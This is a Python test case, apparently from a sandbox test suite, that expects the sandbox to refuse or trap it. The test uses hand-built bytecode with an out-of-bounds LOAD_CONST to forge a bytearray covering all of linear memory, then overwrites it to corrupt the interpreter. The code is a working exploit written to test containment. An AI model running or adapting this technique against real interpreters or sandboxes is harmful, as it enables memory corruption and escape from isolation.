# tries: Forges a bytearray over all of linear memory with out-of-bounds bytecode and overwrites the interpreter.
# must: refused trap|exception|recursion|memory|wall_clock|cpu
# limits: cpu=4000ms
# repeat: 8
import logging
import struct
import types

names = logging.sys.modules["opcode"].opmap


def plain():
    return 1


def object_at(address):
    """The object at an address, loaded as a constant that lies outside of the table."""
    consts = (1, 2)
    pointer = struct.pack("<I", address)
    index = (id(pointer) + 16 - id(consts) - 16) // 4 & 0x3FFFFFFF
    code = bytes([names["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([names["EXTENDED_ARG"], index >> shift & 255])
    code += bytes([names["LOAD_CONST"], index & 255, names["RETURN_VALUE"], 0])
    made = plain.__code__.replace(co_code=code, co_consts=consts)
    return types.FunctionType(made, {})()


async def main():
    size = 24 << 20
    forged = struct.pack("<7I", 1 << 20, id(bytearray), size, size, 8, 8, 0)
    memory = object_at(id(forged) + 16)
    assert type(memory) is bytearray and len(memory) == size
    view = memoryview(memory)
    for place in range(1 << 20, size, 4096):
        view[place : place + 4096] = b"\xaa" * 4096
    return "all of it was overwritten"
